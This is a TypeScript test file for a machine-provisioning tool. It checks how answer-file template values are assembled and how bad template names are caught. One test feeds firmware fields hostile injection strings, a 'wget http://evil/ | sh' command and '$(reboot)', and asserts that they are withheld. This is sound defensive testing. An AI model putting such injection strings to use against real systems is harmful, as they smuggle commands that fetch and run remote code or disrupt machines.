import t from 'tap';
import { answerValues, faultInName } from '../../src/domain/answer-values.ts';
import type { ProfileName } from '../../src/domain/machine.ts';
import { aMachine, aSite } from '../fakes/machines.ts';

const name = 'debian-13' as ProfileName;
const site = { ...aSite(), filesUrl: 'http://h/f', callbackUrl: 'http://h/c' };

t.test('a file may name what kernel arguments name, and more', (t) => {
  const machine = aMachine({
    name: 'node-1',
    variables: { disk: '/dev/vda' },
    network: { address: '10.0.0.11/24', gateway: '10.0.0.1', dns: ['10.0.0.2'], ntp: [] },
  });
  const { scope } = answerValues({ ...machine, tags: { rack: 'a1' } }, name, site);
  t.match(scope, {
    machine: { name: 'node-1', mac: '52:54:00:aa:00:01' },
    network: { address: '10.0.0.11', netmask: '255.255.255.0', dns: '10.0.0.2' },
    variables: { disk: '/dev/vda' },
    tags: { rack: 'a1' },
    profile: { name: 'debian-13' },
    server: { url: site.bootOrigin },
    files: { url: 'http://h/f' },
    callback: { url: 'http://h/c' },
  });
  t.notOk('ntp' in (scope['network'] ?? {}), 'what is not there is missing');
  t.end();
});

t.test('what firmware reports gets into a file only as plain letters', (t) => {
  const hardware = {
    serial: '"; wget http://evil/ | sh #',
    manufacturer: 'Dell Inc.',
    product: 'Standard PC (i440FX + PIIX, 1996)',
    asset: '$(reboot)',
  };
  const { scope, withheld } = answerValues(aMachine({ hardware }), name, site);
  t.same(scope['machine']?.['manufacturer'], 'Dell Inc.');
  t.same(scope['machine']?.['product'], hardware.product);
  t.same([...withheld], ['machine.serial', 'machine.asset']);
  t.notOk('serial' in (scope['machine'] ?? {}));
  t.end();
});

t.test('a name that cannot be there is told when it is written down', (t) => {
  for (const path of [['machine', 'name'], ['profile', 'name'], ['variables', 'x'], ['tags']]) {
    t.equal(faultInName(path), undefined, path.join('.'));
  }
  t.match(faultInName(['network', 'adress']), /did you mean network.address/);
  t.match(faultInName(['hostname']), /a machine's variable is variables.hostname/);
  t.match(faultInName(['variables', 'a', 'b']), /variables have no further parts/);
  t.end();
});
